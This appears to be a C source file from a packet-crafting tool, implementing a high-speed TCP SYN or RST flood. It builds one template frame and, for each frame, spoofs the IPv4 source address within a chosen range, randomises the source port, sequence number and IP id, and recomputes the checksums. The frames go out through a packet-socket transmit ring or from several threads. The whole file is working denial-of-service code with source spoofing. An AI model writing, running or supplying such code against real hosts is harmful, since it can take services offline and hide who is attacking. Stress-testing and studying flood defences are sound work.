/*
 * craft/flood.c - the fast path for SYN floods (RFC 4987 §2 describes the
 * attack): one template frame, per-frame source address, port and ISN with
 * the IPv4/IPv6 and TCP checksums recomputed.  Frames go out through a
 * sender (craft/flood-tx.c: a packet socket with a transmit ring), or from
 * several threads at once (craft/flood-mt.c).
 */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>

#include "core/xmalloc.h"
#include "craft/flood.h"
#include "craft/flood-tx.h"

struct flood {
	uint8_t			 tmpl[128];	/* Ethernet + IP + TCP with options */
	size_t			 len;
	size_t			 l3, l4;	/* offsets of the IP and TCP headers */
	int			 family;
	uint32_t		 lo, span;	/* IPv4 spoof range */
	uint64_t		 seed;
	struct flood_tx		*tx;		/* flood_open's sender */
};

/* A 64-bit mix of x (splitmix64): the per-frame randomness. */
static uint64_t
flood_mix(uint64_t x)
{
	x += 0x9e3779b97f4a7c15ULL;
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
	x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
	return (x ^ (x >> 31));
}

/* A flood of SYNs or RSTs (flags) from the range lo-hi (or lo alone) to dst:port. */
struct flood *
flood_new(uint16_t flags, const struct addr *lo, const struct addr *hi,
    const struct addr *dst, uint16_t port, const uint8_t smac[6],
    const uint8_t dmac[6], uint64_t seed, char **cause)
{
	struct flood	*f;
	struct seg	 s;
	struct pkt	 p;
	struct tcp_opt	 o;
	char		 err[WIRE_ERRLEN];
	ssize_t		 n;
	uint32_t	 a, b;

	if (lo->family != dst->family || (hi != NULL &&
	    hi->family != lo->family)) {
		*cause = xasprintf("flood: source and destination families differ");
		return (NULL);
	}
	f = xcalloc(1, sizeof *f);
	f->family = lo->family;
	f->seed = seed;
	memset(&s, 0, sizeof s);
	s.proto = IPPROTO_TCP_;
	s.src = *lo;
	s.dst = *dst;
	s.th.sport = 1024;
	s.th.dport = port;
	s.th.flags = flags;
	if (flags & TH_SYN) {
		s.th.win = 64240;
		memset(&o, 0, sizeof o);
		o.kind = TCPOPT_MSS;
		o.len = 4;
		o.u.mss = 1460;
		wire_tcpopt_add(&s.th, &o);
	}
	seg_to_pkt(&s, &p, smac, dmac);
	if ((n = wire_build(&p, 0, f->tmpl, sizeof f->tmpl, err,
	    sizeof err)) < 0) {
		*cause = xasprintf("flood: %s", err);
		free(f);
		return (NULL);
	}
	f->len = (size_t)n;
	f->l3 = 14;
	f->l4 = 14 + (f->family == 4 ? 20 : 40);
	memcpy(&a, lo->a, 4);
	f->lo = ntohl(a);
	f->span = 1;
	if (hi != NULL && f->family == 4) {
		memcpy(&b, hi->a, 4);
		if (ntohl(b) < f->lo) {
			*cause = xasprintf("flood: spoof range ends before it starts");
			free(f);
			return (NULL);
		}
		f->span = ntohl(b) - f->lo + 1;
	}
	return (f);
}

/* Free f and close its sender. */
void
flood_free(struct flood *f)
{
	if (f == NULL)
		return;
	flood_tx_close(f->tx);
	free(f);
}

/* Build frame number i: its own source address, port and ISN, checksums fixed. */
size_t
flood_frame(const struct flood *f, uint64_t i, uint8_t *buf, size_t cap)
{
	uint64_t	r = flood_mix(f->seed ^ (i * 0x2545f4914f6cdd1dULL));
	uint8_t		*ip, *th;
	uint32_t	 src, seq = (uint32_t)(r >> 32), sum;
	uint16_t	 port = (uint16_t)(1024 + (r >> 16) % 64512), ck;
	size_t		 tcplen;

	if (cap < f->len)
		return (0);
	memcpy(buf, f->tmpl, f->len);
	ip = buf + f->l3;
	th = buf + f->l4;
	tcplen = f->len - f->l4;
	if (f->family == 4) {
		src = htonl(f->lo + (uint32_t)(r % f->span));
		memcpy(ip + 12, &src, 4);
		ip[4] = (uint8_t)(r >> 8);	/* IP id */
		ip[5] = (uint8_t)r;
		ip[10] = ip[11] = 0;
		ck = wire_fold(wire_sum(ip, 20, 0));
		ip[10] = (uint8_t)(ck >> 8);
		ip[11] = (uint8_t)ck;
	}
	th[0] = (uint8_t)(port >> 8);
	th[1] = (uint8_t)port;
	th[4] = (uint8_t)(seq >> 24);
	th[5] = (uint8_t)(seq >> 16);
	th[6] = (uint8_t)(seq >> 8);
	th[7] = (uint8_t)seq;
	th[16] = th[17] = 0;
	sum = wire_pseudo_sum(f->family, f->family == 4 ? ip + 12 : ip + 8,
	    f->family == 4 ? ip + 16 : ip + 24, IPPROTO_TCP_, (uint32_t)tcplen);
	ck = wire_fold(wire_sum(th, tcplen, sum));
	th[16] = (uint8_t)(ck >> 8);
	th[17] = (uint8_t)ck;
	return (f->len);
}

/* Open the sender on ifname. */
int
flood_open(struct flood *f, const char *ifname, char **cause)
{
	if (f->tx != NULL)
		return (0);
	return ((f->tx = flood_tx_open(f, ifname, cause)) != NULL ? 0 : -1);
}

/* Send frames first .. first+n-1 through the sender flood_open opened. */
int
flood_send(struct flood *f, uint64_t first, int n, char **cause)
{
	if (n > FLOOD_BATCH)
		n = FLOOD_BATCH;
	return (flood_tx_send(f->tx, first, n, cause));
}
